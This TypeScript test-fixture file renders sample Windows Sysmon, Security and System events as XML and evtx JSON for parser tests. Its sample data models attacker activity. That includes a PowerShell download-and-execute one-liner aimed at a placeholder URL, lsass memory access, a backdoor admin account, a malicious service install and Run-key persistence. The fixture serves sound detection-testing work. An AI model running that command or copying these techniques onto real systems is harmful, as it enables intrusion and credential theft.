/**
 * Windows events for the tests, written from Microsoft's documented schemas (the Sysmon event
 * schema, learn.microsoft.com/sysinternals/downloads/sysmon; the Security auditing event pages,
 * learn.microsoft.com/windows/security/threat-protection/auditing/event-NNNN). One description
 * renders as event XML and as evtx-dump JSON, so both readers are tested on the same event.
 */
import { parseEvents } from "./index";
import type { ParsedEvent } from "./types";

export interface WinEventSpec {
  channel: string;
  provider: string;
  id: number;
  computer?: string;
  systemTime?: string;
  data: Record<string, string>;
}

const esc = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/'/g, "&apos;");

export function winXml(e: WinEventSpec): string {
  const data = Object.entries(e.data).map(([k, v]) => `<Data Name='${k}'>${esc(v)}</Data>`).join("");
  return (
    `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='${e.provider}' Guid='{00000000-0000-0000-0000-000000000001}'/>` +
    `<EventID>${e.id}</EventID><Version>2</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>` +
    `<TimeCreated SystemTime='${e.systemTime ?? "2024-05-01T12:34:56.789Z"}'/><EventRecordID>42</EventRecordID><Correlation/>` +
    `<Execution ProcessID='4' ThreadID='8'/><Channel>${e.channel}</Channel><Computer>${e.computer ?? "ws01.corp.local"}</Computer><Security UserID='S-1-5-18'/></System>` +
    `<EventData>${data}</EventData></Event>`
  );
}

/** The same event as evtx-dump JSON (`{"Event":{"System":…,"EventData":{"Data":[{"@Name":…,"#text":…}]}}}`). */
export function evtxJson(e: WinEventSpec): string {
  return JSON.stringify({
    Event: {
      "#attributes": { xmlns: "http://schemas.microsoft.com/win/2004/08/events/event" },
      System: {
        Provider: { "#attributes": { Name: e.provider, Guid: "{00000000-0000-0000-0000-000000000001}" } },
        EventID: e.id,
        Version: 2,
        Level: 4,
        Task: 1,
        Opcode: 0,
        Keywords: "0x8000000000000000",
        TimeCreated: { "#attributes": { SystemTime: e.systemTime ?? "2024-05-01T12:34:56.789Z" } },
        EventRecordID: 42,
        Execution: { "#attributes": { ProcessID: 4, ThreadID: 8 } },
        Channel: e.channel,
        Computer: e.computer ?? "ws01.corp.local",
        Security: { "#attributes": { UserID: "S-1-5-18" } },
      },
      EventData: { Data: Object.entries(e.data).map(([k, v]) => ({ "@Name": k, "#text": v })) },
    },
  });
}

const SYSMON = { channel: "Microsoft-Windows-Sysmon/Operational", provider: "Microsoft-Windows-Sysmon" };
const base = { RuleName: "-", UtcTime: "2024-05-01 12:34:56.700", ProcessGuid: "{AAAAAAAA-1111-2222-3333-444444444444}", ProcessId: "4242", Image: "C:\\Windows\\System32\\rundll32.exe", User: "CORP\\bob" };

/** Every Sysmon event ID, with the fields the Sysmon schema documents for it. */
export const SYSMON_EVENTS: Record<number, Record<string, string>> = {
  1: { ...base, FileVersion: "10.0", Description: "Windows host process", Product: "Microsoft Windows", Company: "Microsoft Corporation", OriginalFileName: "RUNDLL32.EXE", CommandLine: "rundll32.exe C:\\t\\a.dll,Start", CurrentDirectory: "C:\\t\\", LogonGuid: "{AAAAAAAA-0000-0000-0000-000000000000}", LogonId: "0x3e7", TerminalSessionId: "1", IntegrityLevel: "High", Hashes: "MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AB,IMPHASH=CD", ParentProcessGuid: "{BBBBBBBB-1111-2222-3333-444444444444}", ParentProcessId: "1000", ParentImage: "C:\\Windows\\explorer.exe", ParentCommandLine: "C:\\Windows\\Explorer.EXE", ParentUser: "CORP\\bob" },
  2: { ...base, TargetFilename: "C:\\t\\a.dll", CreationUtcTime: "2020-01-01 00:00:00.000", PreviousCreationUtcTime: "2024-05-01 12:00:00.000" },
  3: { ...base, Protocol: "tcp", Initiated: "true", SourceIsIpv6: "false", SourceIp: "10.0.0.5", SourceHostname: "ws01.corp.local", SourcePort: "50123", SourcePortName: "-", DestinationIsIpv6: "false", DestinationIp: "203.0.113.7", DestinationHostname: "-", DestinationPort: "443", DestinationPortName: "https" },
  4: { UtcTime: "2024-05-01 12:34:56.700", State: "Started", Version: "15.0", SchemaVersion: "4.90" },
  5: { ...base },
  6: { RuleName: "-", UtcTime: "2024-05-01 12:34:56.700", ImageLoaded: "C:\\Windows\\System32\\drivers\\x.sys", Hashes: "SHA256=EF", Signed: "false", Signature: "-", SignatureStatus: "Unavailable" },
  7: { ...base, ImageLoaded: "C:\\t\\a.dll", FileVersion: "-", Description: "-", Product: "-", Company: "-", OriginalFileName: "-", Hashes: "SHA256=12", Signed: "false", Signature: "-", SignatureStatus: "Unavailable" },
  8: { RuleName: "-", UtcTime: "2024-05-01 12:34:56.700", SourceProcessGuid: "{1}", SourceProcessId: "1", SourceImage: "C:\\t\\inj.exe", TargetProcessGuid: "{2}", TargetProcessId: "2", TargetImage: "C:\\Windows\\System32\\lsass.exe", NewThreadId: "3", StartAddress: "0x1", StartModule: "-", StartFunction: "-", SourceUser: "CORP\\bob", TargetUser: "NT AUTHORITY\\SYSTEM" },
  9: { ...base, Device: "\\Device\\HarddiskVolume2" },
  10: { RuleName: "-", UtcTime: "2024-05-01 12:34:56.700", SourceProcessGUID: "{1}", SourceProcessId: "1", SourceThreadId: "2", SourceImage: "C:\\t\\dump.exe", TargetProcessGUID: "{2}", TargetProcessId: "700", TargetImage: "C:\\Windows\\system32\\lsass.exe", GrantedAccess: "0x1010", CallTrace: "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4", SourceUser: "CORP\\bob", TargetUser: "NT AUTHORITY\\SYSTEM" },
  11: { ...base, TargetFilename: "C:\\Users\\bob\\AppData\\Local\\Temp\\a.ps1", CreationUtcTime: "2024-05-01 12:34:56.700" },
  12: { ...base, EventType: "CreateKey", TargetObject: "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run" },
  13: { ...base, EventType: "SetValue", TargetObject: "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater", Details: "C:\\t\\a.exe" },
  14: { ...base, EventType: "RenameKey", TargetObject: "HKLM\\SOFTWARE\\old", NewName: "HKLM\\SOFTWARE\\new" },
  15: { ...base, TargetFilename: "C:\\t\\a.exe:Zone.Identifier", CreationUtcTime: "2024-05-01 12:34:56.700", Hash: "SHA256=34", Contents: "[ZoneTransfer]  ZoneId=3" },
  16: { UtcTime: "2024-05-01 12:34:56.700", Configuration: "C:\\sysmon.xml", ConfigurationFileHash: "SHA256=56" },
  17: { ...base, EventType: "CreatePipe", PipeName: "\\msagent_12" },
  18: { ...base, EventType: "ConnectPipe", PipeName: "\\msagent_12" },
  19: { RuleName: "-", EventType: "WmiFilterEvent", UtcTime: "2024-05-01 12:34:56.700", Operation: "Created", User: "CORP\\bob", EventNamespace: "root\\cimv2", Name: "f", Query: "SELECT * FROM __InstanceModificationEvent" },
  20: { RuleName: "-", EventType: "WmiConsumerEvent", UtcTime: "2024-05-01 12:34:56.700", Operation: "Created", User: "CORP\\bob", Name: "c", Type: "Command Line", Destination: "cmd.exe /c x" },
  21: { RuleName: "-", EventType: "WmiBindingEvent", UtcTime: "2024-05-01 12:34:56.700", Operation: "Created", User: "CORP\\bob", Consumer: "CommandLineEventConsumer.Name=\"c\"", Filter: "__EventFilter.Name=\"f\"" },
  22: { RuleName: "-", UtcTime: "2024-05-01 12:34:56.700", ProcessGuid: "{AAAAAAAA-1111-2222-3333-444444444444}", ProcessId: "4242", QueryName: "evil.example.com", QueryStatus: "0", QueryResults: "type: 5 x.example.com;::ffff:203.0.113.9;", Image: "C:\\Windows\\System32\\rundll32.exe", User: "CORP\\bob" },
  23: { ...base, TargetFilename: "C:\\t\\a.exe", Hashes: "SHA256=78", IsExecutable: "true", Archived: "true" },
  24: { ...base, Session: "1", ClientInfo: "user: bob", Hashes: "SHA256=9A", Archived: "false" },
  25: { ...base, Type: "Image is replaced" },
  26: { ...base, TargetFilename: "C:\\t\\b.exe", Hashes: "SHA256=BC", IsExecutable: "true" },
  27: { ...base, TargetFilename: "C:\\t\\c.exe", Hashes: "SHA256=DE" },
  28: { ...base, TargetFilename: "C:\\t\\d.exe", Hashes: "SHA256=F0", IsExecutable: "true" },
  29: { ...base, TargetFilename: "C:\\t\\e.exe", Hashes: "SHA256=F1" },
  255: { UtcTime: "2024-05-01 12:34:56.700", ID: "DriverCommunication", Description: "Failed to open service configuration" },
};

export function sysmonEvent(id: number): WinEventSpec {
  return { ...SYSMON, id, data: SYSMON_EVENTS[id]! };
}

const SECURITY = { channel: "Security", provider: "Microsoft-Windows-Security-Auditing" };
const subject = { SubjectUserSid: "S-1-5-21-1-2-3-1104", SubjectUserName: "alice", SubjectDomainName: "CORP", SubjectLogonId: "0x3e7" };

/** Security and System channel events, with the fields Microsoft documents for each. */
export const WINDOWS_EVENTS: Record<string, WinEventSpec> = {
  "4624": { ...SECURITY, id: 4624, data: { SubjectUserSid: "S-1-5-18", SubjectUserName: "DC01$", SubjectDomainName: "CORP", SubjectLogonId: "0x3e7", TargetUserSid: "S-1-5-21-1-2-3-1105", TargetUserName: "bob", TargetDomainName: "CORP", TargetLogonId: "0x8dcdc", LogonType: "3", LogonProcessName: "NtLmSsp ", AuthenticationPackageName: "NTLM", WorkstationName: "WS02", LogonGuid: "{00000000-0000-0000-0000-000000000000}", TransmittedServices: "-", LmPackageName: "NTLM V2", KeyLength: "128", ProcessId: "0x0", ProcessName: "-", IpAddress: "10.0.0.8", IpPort: "51515", ImpersonationLevel: "%%1833" } },
  "4625": { ...SECURITY, id: 4625, data: { SubjectUserSid: "S-1-0-0", SubjectUserName: "-", SubjectDomainName: "-", SubjectLogonId: "0x0", TargetUserSid: "S-1-0-0", TargetUserName: "administrator", TargetDomainName: "CORP", Status: "0xc000006d", FailureReason: "%%2313", SubStatus: "0xc000006a", LogonType: "3", LogonProcessName: "NtLmSsp ", AuthenticationPackageName: "NTLM", WorkstationName: "KALI", TransmittedServices: "-", LmPackageName: "-", KeyLength: "0", ProcessId: "0x0", ProcessName: "-", IpAddress: "198.51.100.4", IpPort: "0" } },
  "4688": { ...SECURITY, id: 4688, data: { ...subject, NewProcessId: "0x1a2c", NewProcessName: "C:\\Windows\\System32\\net.exe", TokenElevationType: "%%1937", ProcessId: "0xb2c", CommandLine: "net  group \"Domain Admins\" /domain", TargetUserSid: "S-1-0-0", TargetUserName: "-", TargetDomainName: "-", TargetLogonId: "0x0", ParentProcessName: "C:\\Windows\\System32\\cmd.exe", MandatoryLabel: "S-1-16-12288" } },
  "4663": { ...SECURITY, id: 4663, data: { ...subject, ObjectServer: "Security", ObjectType: "File", ObjectName: "C:\\Users\\bob\\Documents\\secret.docx", HandleId: "0x1a0", AccessList: "%%4416", AccessMask: "0x1", ProcessId: "0x1f0", ProcessName: "C:\\Windows\\explorer.exe", ResourceAttributes: "S:AI" } },
  "4657": { ...SECURITY, id: 4657, data: { ...subject, ObjectName: "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", ObjectValueName: "updater", HandleId: "0x1a0", OperationType: "%%1904", OldValueType: "-", OldValue: "-", NewValueType: "%%1873", NewValue: "C:\\t\\a.exe", ProcessId: "0x1f0", ProcessName: "C:\\Windows\\regedit.exe" } },
  "4697": { ...SECURITY, id: 4697, data: { ...subject, ServiceName: "evilsvc", ServiceFileName: "C:\\t\\svc.exe", ServiceType: "0x10", ServiceStartType: "2", ServiceAccount: "LocalSystem" } },
  "4720": { ...SECURITY, id: 4720, data: { TargetUserName: "backdoor", TargetDomainName: "CORP", TargetSid: "S-1-5-21-1-2-3-1500", ...subject, PrivilegeList: "-", SamAccountName: "backdoor", DisplayName: "%%1793", UserPrincipalName: "-" } },
  "4732": { ...SECURITY, id: 4732, data: { MemberName: "-", MemberSid: "S-1-5-21-1-2-3-1500", TargetUserName: "Administrators", TargetDomainName: "Builtin", TargetSid: "S-1-5-32-544", ...subject, PrivilegeList: "-" } },
  "4768": { ...SECURITY, id: 4768, data: { TargetUserName: "bob", TargetDomainName: "CORP.LOCAL", TargetSid: "S-1-5-21-1-2-3-1105", ServiceName: "krbtgt", ServiceSid: "S-1-5-21-1-2-3-502", TicketOptions: "0x40810010", Status: "0x0", TicketEncryptionType: "0x12", PreAuthType: "2", IpAddress: "::ffff:10.0.0.8", IpPort: "49273", CertIssuerName: "", CertSerialNumber: "", CertThumbprint: "" } },
  "4769": { ...SECURITY, id: 4769, data: { TargetUserName: "bob@CORP.LOCAL", TargetDomainName: "CORP.LOCAL", ServiceName: "MSSQLSvc", ServiceSid: "S-1-5-21-1-2-3-1600", TicketOptions: "0x40810000", TicketEncryptionType: "0x17", IpAddress: "::ffff:10.0.0.8", IpPort: "49274", Status: "0x0", LogonGuid: "{00000000-0000-0000-0000-000000000000}", TransmittedServices: "-" } },
  "4771": { ...SECURITY, id: 4771, data: { TargetUserName: "bob", TargetSid: "S-1-5-21-1-2-3-1105", ServiceName: "krbtgt/CORP.LOCAL", TicketOptions: "0x40810010", Status: "0x18", PreAuthType: "2", IpAddress: "::ffff:10.0.0.9", IpPort: "49275", CertIssuerName: "", CertSerialNumber: "", CertThumbprint: "" } },
  "4776": { ...SECURITY, id: 4776, data: { PackageName: "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", TargetUserName: "bob", Workstation: "WS02", Status: "0xc000006a" } },
  "5156": { ...SECURITY, id: 5156, data: { ProcessID: "4", Application: "\\device\\harddiskvolume2\\windows\\system32\\svchost.exe", Direction: "%%14593", SourceAddress: "10.0.0.5", SourcePort: "50123", DestAddress: "203.0.113.7", DestPort: "443", Protocol: "6", FilterRTID: "0", LayerName: "%%14611", LayerRTID: "48" } },
  "5145": { ...SECURITY, id: 5145, data: { ...subject, ObjectType: "File", IpAddress: "10.0.0.8", IpPort: "51516", ShareName: "\\\\*\\C$", ShareLocalPath: "\\??\\C:\\", RelativeTargetName: "Windows\\Temp\\x.bat", AccessMask: "0x2", AccessList: "%%4417", AccessReason: "-" } },
  "7045": { channel: "System", provider: "Service Control Manager", id: 7045, data: { ServiceName: "PSEXESVC", ImagePath: "%SystemRoot%\\PSEXESVC.exe", ServiceType: "user mode service", StartType: "demand start", AccountName: "LocalSystem" } },
  "7036": { channel: "System", provider: "Service Control Manager", id: 7036, data: { param1: "Windows Update", param2: "running" } },
  "7040": { channel: "System", provider: "Service Control Manager", id: 7040, data: { param1: "Background Intelligent Transfer Service", param2: "demand start", param3: "auto start", param4: "BITS" } },
  "4104": { channel: "Microsoft-Windows-PowerShell/Operational", provider: "Microsoft-Windows-PowerShell", id: 4104, data: { MessageNumber: "1", MessageTotal: "1", ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://x/a')", ScriptBlockId: "{11111111-2222-3333-4444-555555555555}", Path: "" } },
};

/** One pasted event, read (exactly one event, else the problems in the message). */
export function readOne(text: string): ParsedEvent {
  const r = parseEvents(text);
  // No node:assert here: lib/events (test data included) imports nothing of Node.
  if (r.events.length !== 1) throw new Error(`expected one event, read ${r.events.length}: ${JSON.stringify(r.problems)}`);
  return r.events[0]!;
}

/** Both renderings of one event, read. */
export function bothRenderings(spec: WinEventSpec): [string, ParsedEvent][] {
  return [["xml", readOne(winXml(spec))], ["evtx-json", readOne(evtxJson(spec))]];
}
